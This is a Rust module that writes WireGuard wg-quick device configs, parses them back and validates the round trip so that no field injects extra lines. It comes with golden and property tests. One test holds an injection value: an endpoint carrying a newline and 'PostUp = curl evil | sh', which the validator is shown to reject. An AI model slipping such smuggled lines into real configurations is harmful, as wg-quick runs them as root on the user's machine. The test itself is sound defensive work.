//! A device's config as wg-quick text: [`DeviceConfig::to_wg_quick`] writes it, [`DeviceConfig::parse`]
//! reads it back (the parser is in `parse`), and [`DeviceConfig::validate`] checks that the two agree, so
//! that no value smuggles in lines. The format is wg-quick(8)'s: `[Interface]` and `[Peer]` sections of
//! `Key = Value` lines.

mod parse;

use std::net::IpAddr;

use ipnet::IpNet;

use super::RenderError;
use crate::keys::{PresharedKey, PrivateKey, PublicKey};
use parse::Parser;

/// A wg-quick configuration for a roaming device with exactly one peer (the hub).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeviceConfig {
    /// The device's x25519 private key (its `Debug` is redacted).
    pub private_key: PrivateKey,
    /// The device's tunnel addresses, e.g. 10.77.0.3/32 and fd12:3456:789a::3/128.
    pub addresses: Vec<IpNet>,
    /// Resolvers to use while the tunnel is up.
    pub dns_servers: Vec<IpAddr>,
    /// Search domains, e.g. "home.internal"; wg-quick reads them from the DNS line too.
    pub dns_search: Vec<String>,
    /// Interface MTU; wg-quick picks one itself when unset.
    pub mtu: Option<u16>,
    /// The hub, the device's only peer.
    pub peer: HubPeer,
}

/// The hub as seen from a roaming device.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HubPeer {
    /// The hub's public key.
    pub public_key: PublicKey,
    /// The key shared by this device and the hub.
    pub preshared_key: PresharedKey,
    /// HOST:PORT as given by the operator; the host is an IPv4 address, a `[IPv6]` address or a DNS name.
    pub endpoint: String,
    /// Destinations routed through the hub.
    pub allowed_ips: Vec<IpNet>,
    /// Seconds between keepalives; 0 turns them off.
    pub persistent_keepalive: u16,
}

/// The two sections of a device config.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Section {
    Interface,
    Peer,
}

impl Section {
    fn header(self) -> &'static str {
        match self {
            Section::Interface => "[Interface]",
            Section::Peer => "[Peer]",
        }
    }
}

/// Every key a device config may hold, with its spelling in wg-quick.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Field {
    PrivateKey,
    Address,
    Dns,
    Mtu,
    PublicKey,
    PresharedKey,
    Endpoint,
    AllowedIps,
    PersistentKeepalive,
}

impl Field {
    const ALL: [Field; 9] = [
        Field::PrivateKey,
        Field::Address,
        Field::Dns,
        Field::Mtu,
        Field::PublicKey,
        Field::PresharedKey,
        Field::Endpoint,
        Field::AllowedIps,
        Field::PersistentKeepalive,
    ];

    fn name(self) -> &'static str {
        match self {
            Field::PrivateKey => "PrivateKey",
            Field::Address => "Address",
            Field::Dns => "DNS",
            Field::Mtu => "MTU",
            Field::PublicKey => "PublicKey",
            Field::PresharedKey => "PresharedKey",
            Field::Endpoint => "Endpoint",
            Field::AllowedIps => "AllowedIPs",
            Field::PersistentKeepalive => "PersistentKeepalive",
        }
    }

    fn section(self) -> Section {
        match self {
            Field::PrivateKey | Field::Address | Field::Dns | Field::Mtu => Section::Interface,
            _ => Section::Peer,
        }
    }

    /// wg-quick matches key names case-insensitively.
    fn find(section: Section, name: &str) -> Option<Field> {
        Field::ALL.into_iter().find(|k| k.section() == section && k.name().eq_ignore_ascii_case(name))
    }
}

impl DeviceConfig {
    /// Standard wg-quick text: `[Interface]` then `[Peer]`, lists comma-separated, DNS servers before
    /// search domains; empty lists, an unset MTU and a keepalive of 0 are left out. Ends with a newline.
    pub fn to_wg_quick(&self) -> String {
        let mut out = String::from("[Interface]\n");
        push_line(&mut out, Field::PrivateKey, &self.private_key.to_base64());
        push_list(&mut out, Field::Address, self.addresses.iter());
        let dns = self.dns_servers.iter().map(ToString::to_string);
        push_list(&mut out, Field::Dns, dns.chain(self.dns_search.iter().cloned()));
        if let Some(mtu) = self.mtu {
            push_line(&mut out, Field::Mtu, &mtu.to_string());
        }
        let peer = &self.peer;
        out.push_str("\n[Peer]\n");
        push_line(&mut out, Field::PublicKey, peer.public_key.as_str());
        push_line(&mut out, Field::PresharedKey, peer.preshared_key.as_str());
        push_line(&mut out, Field::Endpoint, &peer.endpoint);
        push_list(&mut out, Field::AllowedIps, peer.allowed_ips.iter());
        if peer.persistent_keepalive != 0 {
            let keepalive = peer.persistent_keepalive.to_string();
            push_line(&mut out, Field::PersistentKeepalive, &keepalive);
        }
        out
    }

    /// Parse wg-quick text of this shape back; errors name the offending line. Unknown keys are
    /// errors, key names are case-insensitive, `#` comments and blank lines are ignored.
    pub fn parse(text: &str) -> Result<DeviceConfig, RenderError> {
        let mut parser = Parser::default();
        // Editors on Windows may save a byte order mark; wg-quick would choke, we need not.
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        for (index, raw) in text.lines().enumerate() {
            parser.line(index + 1, raw)?;
        }
        parser.finish()
    }

    /// Check that [`DeviceConfig::to_wg_quick`] reads back to this very config, so that no field
    /// smuggles in extra lines (wg-quick runs `PostUp` lines as root) or splits into several values.
    pub fn validate(&self) -> Result<(), RenderError> {
        let read_back = Self::parse(&self.to_wg_quick()).map_err(|e| RenderError::NotRepresentable(Box::new(e)))?;
        if read_back == *self { Ok(()) } else { Err(RenderError::ReadsBackDifferently) }
    }
}

fn push_line(out: &mut String, key: Field, value: &str) {
    out.push_str(key.name());
    out.push_str(" = ");
    out.push_str(value);
    out.push('\n');
}

fn push_list<T: ToString>(out: &mut String, key: Field, items: impl Iterator<Item = T>) {
    let items: Vec<String> = items.map(|item| item.to_string()).collect();
    if !items.is_empty() {
        push_line(out, key, &items.join(", "));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::handout::tests::sample;
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD as BASE64;
    use ipnet::{Ipv4Net, Ipv6Net};
    use proptest::prelude::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    /// [`sample`] as wg-quick text.
    pub(super) const GOLDEN: &str = "\
[Interface]
PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
Address = 10.77.0.3/32, fd12:3456:789a::3/128
DNS = 10.77.0.1, fd12:3456:789a::1, home.internal
MTU = 1420

[Peer]
PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
PresharedKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=
Endpoint = hub.example.net:51820
AllowedIPs = 10.77.0.0/16, fd12:3456:789a::/48, 192.168.1.0/24
PersistentKeepalive = 25
";

    #[test]
    fn to_wg_quick_golden() {
        assert_eq!(sample().to_wg_quick(), GOLDEN);
    }

    #[test]
    fn golden_parses_back() {
        assert_eq!(DeviceConfig::parse(GOLDEN).unwrap(), sample());
        sample().validate().unwrap();
    }

    #[test]
    fn optional_lines_are_left_out_and_read_back() {
        let mut config = sample();
        config.addresses.clear();
        config.dns_servers.clear();
        config.dns_search.clear();
        config.mtu = None;
        config.peer.allowed_ips.clear();
        config.peer.persistent_keepalive = 0;
        let text = config.to_wg_quick();
        for key in ["Address", "DNS", "MTU", "AllowedIPs", "PersistentKeepalive"] {
            assert!(!text.contains(key), "{key} should be left out:\n{text}");
        }
        assert_eq!(DeviceConfig::parse(&text).unwrap(), config);
    }

    #[test]
    fn validate_refuses_fields_that_would_inject_lines() {
        let mut config = sample();
        config.peer.endpoint = "hub.example.net:51820\nPostUp = curl evil | sh".into();
        let err = config.validate().unwrap_err();
        assert!(err.to_string().contains(r#"unknown key "PostUp""#), "{err}");
        let mut config = sample();
        config.dns_search = vec!["a.example, b.example".into()];
        assert!(matches!(config.validate(), Err(RenderError::ReadsBackDifferently)));
    }

    fn key() -> impl Strategy<Value = String> {
        any::<[u8; parse::KEY_LEN]>().prop_map(|bytes| BASE64.encode(bytes))
    }

    fn ip_net() -> impl Strategy<Value = IpNet> {
        prop_oneof![
            (any::<Ipv4Addr>(), 0u8..=32).prop_map(|(addr, prefix)| Ipv4Net::new(addr, prefix).unwrap().into()),
            (any::<Ipv6Addr>(), 0u8..=128).prop_map(|(addr, prefix)| Ipv6Net::new(addr, prefix).unwrap().into()),
        ]
    }

    fn domain() -> impl Strategy<Value = String> {
        "[a-z][a-z0-9-]{0,8}[a-z0-9](\\.[a-z][a-z0-9]{0,8}){0,2}"
    }

    fn endpoint() -> impl Strategy<Value = String> {
        let host = prop_oneof![
            any::<Ipv4Addr>().prop_map(|a| a.to_string()),
            any::<Ipv6Addr>().prop_map(|a| format!("[{a}]")),
            domain(),
        ];
        (host, 1u16..).prop_map(|(host, port)| format!("{host}:{port}"))
    }

    /// Any config with valid keys, addresses, names and numbers.
    pub(super) fn config() -> impl Strategy<Value = DeviceConfig> {
        let interface = (
            key(),
            prop::collection::vec(ip_net(), 0..=3),
            prop::collection::vec(any::<IpAddr>(), 0..=3),
            prop::collection::vec(domain(), 0..=2),
            prop::option::of(1u16..),
        );
        let peer = (key(), key(), endpoint(), prop::collection::vec(ip_net(), 0..=4), any::<u16>()).prop_map(
            |(public_key, preshared_key, endpoint, allowed_ips, persistent_keepalive)| HubPeer {
                public_key: PublicKey::parse(&public_key).expect("32 bytes are a key"),
                preshared_key: PresharedKey::parse(&preshared_key).expect("32 bytes are a key"),
                endpoint,
                allowed_ips,
                persistent_keepalive,
            },
        );
        (interface, peer).prop_map(|((private_key, addresses, dns_servers, dns_search, mtu), peer)| DeviceConfig {
            private_key: PrivateKey::from_base64(&private_key).expect("32 bytes are a key"),
            addresses,
            dns_servers,
            dns_search,
            mtu,
            peer,
        })
    }

    proptest! {
        #[test]
        fn wg_quick_round_trips(config in config()) {
            let text = config.to_wg_quick();
            prop_assert!(text.ends_with('\n'));
            prop_assert_eq!(DeviceConfig::parse(&text).unwrap(), config);
        }
    }
}
